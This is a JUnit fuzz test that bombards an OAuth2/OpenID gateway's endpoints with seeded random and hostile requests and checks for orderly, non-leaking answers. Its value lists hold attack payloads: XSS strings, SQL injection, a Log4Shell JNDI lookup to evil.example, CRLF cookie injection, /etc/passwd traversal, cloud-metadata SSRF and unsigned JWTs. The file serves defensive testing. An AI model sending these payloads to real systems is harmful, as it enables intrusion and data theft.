package org.symbolon;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every address of a running gateway gets malformed, random and hostile requests: whatever comes,
 * it answers with less than 500, tells nothing of itself, sends no browser to where a stranger
 * says, and repeats no markup.
 */
class FuzzTest {
  private static final HttpClient HTTP = HttpClient.newHttpClient();

  /** The same requests in each run: what fails once can be looked at. */
  private static final long SEED = 20260721;

  private static final int ROUNDS = 800;
  private static final String MARKUP = "<script>alert(1)</script>";
  private static final String ELSEWHERE = "https://evil.example/";

  private static final List<String> PATHS =
      List.of(
          "/",
          "/oauth2/authorize",
          "/oauth2/token",
          "/oauth2/device_authorization",
          "/oauth2/userinfo",
          "/oauth2/introspect",
          "/oauth2/revoke",
          "/oauth2/register",
          "/oauth2/register/aaaaaaaaaaaaaaaaaaaaaa",
          "/oauth2/register/portal",
          "/oauth2/par",
          "/oauth2/certs",
          "/oauth2/may",
          "/.well-known/openid-configuration",
          "/.well-known/oauth-authorization-server",
          "/.well-known/webfinger",
          "/device",
          "/login/callback",
          "/sign-in",
          "/sign-in/with/local",
          "/sign-in/with/nobody",
          "/sign-in/again",
          "/sign-in/continue",
          "/sign-in/decision",
          "/account",
          "/logout",
          "/session",
          "/healthz",
          "/readyz",
          "/metrics",
          "/admin/explain",
          "/admin/may",
          "/favicon.ico",
          "/nowhere",
          "/%2e%2e/%2e%2e/etc/passwd",
          "/oauth2//token",
          "/oauth2/token;x=1");

  private static final List<String> NAMES =
      List.of(
          "client_id",
          "client_secret",
          "client_assertion",
          "client_assertion_type",
          "response_type",
          "response_mode",
          "redirect_uri",
          "post_logout_redirect_uri",
          "scope",
          "state",
          "nonce",
          "code",
          "code_challenge",
          "code_challenge_method",
          "code_verifier",
          "grant_type",
          "device_code",
          "user_code",
          "refresh_token",
          "username",
          "password",
          "subject_token",
          "subject_token_type",
          "requested_token_type",
          "actor_token",
          "actor_token_type",
          "assertion",
          "audience",
          "resource",
          "token",
          "token_type_hint",
          "access_token",
          "request",
          "request_uri",
          "prompt",
          "max_age",
          "login_hint",
          "id_token_hint",
          "ui_locales",
          "acr_values",
          "claims",
          "dpop_jkt",
          "transaction",
          "csrf",
          "decision",
          "next",
          "rel",
          "error",
          "iss",
          "user",
          "client");

  private static final List<String> VALUES =
      List.of(
          "",
          " ",
          "portal",
          "tool",
          "nobody",
          "code",
          "token",
          "code id_token",
          "none",
          "query",
          "form_post",
          "authorization_code",
          "refresh_token",
          "client_credentials",
          "password",
          "urn:ietf:params:oauth:grant-type:device_code",
          "urn:ietf:params:oauth:grant-type:token-exchange",
          "urn:ietf:params:oauth:grant-type:jwt-bearer",
          "urn:ietf:params:oauth:token-type:access_token",
          "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
          "https://app.example/cb",
          ELSEWHERE,
          "//evil.example/",
          "/\\evil.example",
          "javascript:alert(1)",
          "openid",
          "openid storage.read:/",
          "storage.read:/../../etc",
          "storage.read:/%2e%2e/%00",
          "compute.*",
          MARKUP,
          "\"><img src=x onerror=alert(1)>",
          "' OR 1=1 --",
          "${jndi:ldap://evil.example/}",
          "{{7*7}}",
          "%s%n%x",
          "\r\nSet-Cookie: evil=1",
          "\u0000",
          "\ud83d\ude00\u202e",
          "-1",
          "99999999999999999999",
          "1e309",
          "{}",
          "{\"userinfo\":{\"a\":{\"essential\":true}}}",
          "[[[[[[[[[[",
          "null",
          "a.b.c",
          "eyJhbGciOiJub25lIn0.e30.",
          "eyJhbGciOiJub25lIiwidHlwIjoiYXQrand0In0.eyJzdWIiOiJhbGljZSJ9.",
          "eyJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJwb3J0YWwiLCJzdWIiOiJwb3J0YWwifQ.AAAA",
          "x".repeat(5000));

  @TempDir private static Path folder;
  private static String origin = "";
  private static ClientSite site;

  private final Random random = new Random(SEED);

  @BeforeAll
  static void serve() throws Exception {
    site =
        new ClientSite(
            folder,
            "{id: portal, secret-sha256: '%s', grants: [code, refresh, client-credentials], introspect: true, scopes: [compute.read], redirect-uris: [https://app.example/cb]}"
                .formatted("0".repeat(64)),
            "{id: tool, public: true, grants: [code, device, refresh], redirect-uris: [http://127.0.0.1/cb]}");
    origin = site.issuer().toString();
  }

  @AfterAll
  static void stop() throws Exception {
    site.close();
  }

  @Test
  void whatever_is_sent_the_answer_is_an_orderly_one() throws Exception {
    for (int round = 0; round < ROUNDS; round++) {
      HttpRequest request = request();
      HttpResponse<String> answer = send(request);
      String what = "round " + round + ": " + request.method() + " " + request.uri();
      // A readiness that says no is 503, and nothing of that is wrong here.
      assertThat(answer.statusCode()).as(what + "\n" + answer.body()).isLessThan(500);
      assertThat(answer.body())
          .as(what)
          .doesNotContain(
              "Exception", "at org.symbolon", "java.lang", MARKUP, "<img src=x", "jdbc:");
      String location = answer.headers().firstValue("Location").orElse(origin + "/");
      assertThat(location)
          .as(what)
          .satisfiesAnyOf(
              one -> assertThat(one).startsWith(origin + "/"),
              one -> assertThat(one).matches("/(?![/\\\\]).*|/"),
              one -> assertThat(one).startsWith("https://app.example/cb"),
              one -> assertThat(one).startsWith("http://127.0.0.1/cb"));
      assertThat(answer.headers().allValues("Set-Cookie"))
          .as(what)
          .noneMatch(one -> one.contains("evil"));
    }
  }

  /** A server may close a connection whose request it did not read to its end: then once more. */
  private static HttpResponse<String> send(HttpRequest request) throws Exception {
    try {
      return HTTP.send(request, BodyHandlers.ofString());
    } catch (IOException closed) {
      return HTTP.send(request, BodyHandlers.ofString());
    }
  }

  private HttpRequest request() {
    String query = random.nextInt(3) == 0 ? "" : "?" + form();
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(origin + one(PATHS) + query));
    switch (random.nextInt(10)) {
      case 0, 1, 2 -> request.GET();
      case 3 -> request.DELETE();
      case 4 -> body(request, "PUT", "application/json", json());
      case 5 -> body(request, "POST", "application/json", json());
      case 6 -> body(request, "POST", "text/plain", one(VALUES));
      case 7 ->
          request.method(
              one(List.of("OPTIONS", "HEAD", "PATCH", "TRACE", "BREW")), BodyPublishers.noBody());
      default -> body(request, "POST", "application/x-www-form-urlencoded", form());
    }
    if (random.nextInt(3) == 0) {
      request.header("Authorization", authorization());
    }
    if (random.nextInt(4) == 0) {
      request.header(
          one(
              List.of(
                  "DPoP",
                  "Origin",
                  "Accept",
                  "Cookie",
                  "X-Forwarded-For",
                  "Forwarded",
                  "X-Forwarded-Host",
                  "Client-Cert",
                  "Accept-Language",
                  "If-None-Match")),
          printable(one(VALUES)));
    }
    if (random.nextInt(2) == 0) {
      request.header("Accept", "text/html");
    }
    return request.build();
  }

  private static void body(HttpRequest.Builder request, String method, String type, String body) {
    request.header("Content-Type", type).method(method, BodyPublishers.ofString(body));
  }

  private String authorization() {
    String value = one(VALUES);
    String basic =
        Base64.getEncoder()
            .encodeToString((one(VALUES) + ":" + value).getBytes(StandardCharsets.UTF_8));
    return one(
        List.of(
            "Basic " + basic,
            "Bearer " + printable(value),
            "DPoP " + printable(value),
            "Basic ====",
            "Basic",
            printable(value)));
  }

  /** What a header can hold at all. */
  private static String printable(String text) {
    return text.replaceAll("[^ -~]", "?").strip() + "x";
  }

  private String form() {
    List<String> pairs = new ArrayList<>();
    for (int count = random.nextInt(8); count >= 0; count--) {
      String value = one(VALUES);
      pairs.add(
          one(NAMES)
              + "="
              + URLEncoder.encode(
                  random.nextInt(9) == 0 ? bytes() : value, StandardCharsets.UTF_8));
    }
    if (random.nextInt(10) == 0) {
      pairs.add("%41=%FF");
    }
    return String.join("&", pairs);
  }

  private String json() {
    return switch (random.nextInt(5)) {
      case 0 -> one(VALUES);
      case 1 -> "[".repeat(3000);
      default -> {
        StringBuilder object = new StringBuilder("{");
        List<String> members =
            List.of(
                "client_name",
                "redirect_uris",
                "grant_types",
                "scope",
                "jwks",
                "jwks_uri",
                "contacts",
                "default_max_age",
                "logo_uri",
                "response_types",
                "software_statement",
                "sector_identifier_uri",
                "subject_type",
                "token_endpoint_auth_method",
                "client_id",
                "client_name#de",
                "user",
                "request_uris");
        List<String> values =
            List.of(
                "null",
                "true",
                "7",
                "-1",
                "1e400",
                "[]",
                "{}",
                "[null]",
                "[[]]",
                "\"\"",
                "\"<script>alert(1)</script>\"",
                "[\"https://evil.example/\"]",
                "[\"javascript:alert(1)\"]",
                "\"openid\"",
                "\"none\"",
                "\"private_key_jwt\"",
                "\"a.b.c\"",
                "{\"keys\":[{}]}",
                "{\"keys\":[{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"AA\",\"y\":\"AA\"}]}",
                "\"http://169.254.169.254/\"",
                "[\"authorization_code\"]",
                "\"\\ud800\"",
                "\"\\u0000\"");
        for (int count = random.nextInt(5); count >= 0; count--) {
          object
              .append(object.length() > 1 ? "," : "")
              .append("\"" + one(members) + "\":" + one(values));
        }
        yield object.append(random.nextInt(6) == 0 ? "" : "}").toString();
      }
    };
  }

  private String bytes() {
    byte[] bytes = new byte[random.nextInt(60)];
    random.nextBytes(bytes);
    return new String(bytes, StandardCharsets.ISO_8859_1);
  }

  private String one(List<String> of) {
    return of.get(random.nextInt(of.size()));
  }
}
